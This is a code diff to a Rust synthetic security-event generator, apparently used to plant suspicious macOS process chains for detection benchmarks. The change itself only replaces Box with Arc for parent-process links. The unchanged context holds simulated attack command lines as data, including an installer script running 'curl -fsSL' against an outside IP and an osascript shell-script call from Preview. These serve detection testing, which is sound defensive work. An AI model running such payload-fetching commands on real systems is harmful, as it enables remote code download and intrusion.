@@ -6,7 +6,7 @@
 //! near misses) at a fixed rate, so benchmarks and demos have alerts to find.
 
 use std::net::{IpAddr, Ipv4Addr};
-use std::sync::OnceLock;
+use std::sync::{Arc, OnceLock};
 
 use dsl::event::{
     Category, CodeSignature, Endpoint, EventInfo, EventType, File, Hash, Host, Network, Os,
@@ -320,7 +320,7 @@ impl Synthetic {
                 let parent = self.process_of(idx);
                 let child = self.spawn_live(program);
                 let mut p = self.process_of(child);
-                p.parent = Some(Box::new(strip(parent)));
+                p.parent = Some(Arc::new(strip(parent)));
                 let exec = self.base(Category::Process, vec![EventType::Start], "exec", p);
                 if self.live.len() > 400 {
                     // Keep the live set bounded the way a real host does: a
@@ -408,7 +408,7 @@ impl Synthetic {
             60_001,
             &["/bin/sh", "/tmp/PKInstallSandbox/Scripts/postinstall"],
         );
-        sh.parent = Some(Box::new(installer));
+        sh.parent = Some(Arc::new(installer));
         let mut curl = planted(
             "curl",
             "/usr/bin/curl",
@@ -416,7 +416,7 @@ impl Synthetic {
             60_002,
             &["curl", "-fsSL", "http://203.0.113.80/p"],
         );
-        curl.parent = Some(Box::new(strip(sh.clone())));
+        curl.parent = Some(Arc::new(strip(sh.clone())));
         self.exec(sh);
         self.now += 200_000_000;
         self.exec(curl.clone());
@@ -431,7 +431,7 @@ impl Synthetic {
             61_001,
             &["sh", "-c", "curl example.com"],
         );
-        sh2.parent = Some(Box::new(term));
+        sh2.parent = Some(Arc::new(term));
         self.exec(sh2);
         if self.cfg.plant == Plant::All {
             self.plant_rule_chains(n);
@@ -475,7 +475,7 @@ impl Synthetic {
                 pid,
                 &[exe, "--install"],
             );
-            updater.parent = Some(Box::new(installer.clone()));
+            updater.parent = Some(Arc::new(installer.clone()));
             self.exec(updater.clone());
             self.now += 300 * MS;
             self.connect(updater, ip, 443);
@@ -519,9 +519,9 @@ impl Synthetic {
                 pid,
                 &["/bin/sh", "/tmp/PKInstallSandbox.1/Scripts/postinstall"],
             );
-            sh.parent = Some(Box::new(pss.clone()));
+            sh.parent = Some(Arc::new(pss.clone()));
             let mut child = planted(name, exe, format!("pss-c{i}-{n}"), pid + 1, args);
-            child.parent = Some(Box::new(strip(sh.clone())));
+            child.parent = Some(Arc::new(strip(sh.clone())));
             self.exec(sh);
             self.now += 200 * MS;
             self.exec(child);
@@ -544,7 +544,7 @@ impl Synthetic {
         .enumerate()
         {
             let mut child = planted(name, exe, format!("saf-c{i}-{n}"), 60_031 + i as u32, args);
-            child.parent = Some(Box::new(safari.clone()));
+            child.parent = Some(Arc::new(safari.clone()));
             self.exec(child);
             self.now += 100 * MS;
         }
@@ -580,7 +580,7 @@ impl Synthetic {
                 60_037 + i as u32,
                 &[path.as_str()],
             );
-            app.parent = Some(Box::new(finder.clone()));
+            app.parent = Some(Arc::new(finder.clone()));
             self.exec(app);
         }
 
@@ -608,7 +608,7 @@ impl Synthetic {
                 pid + 1,
                 &["osascript", "-e", "do shell script \"id\""],
             );
-            osa.parent = Some(Box::new(preview));
+            osa.parent = Some(Arc::new(preview));
             self.exec(osa.clone());
             self.now += 200 * MS;
             self.connect(osa, ip, 443);
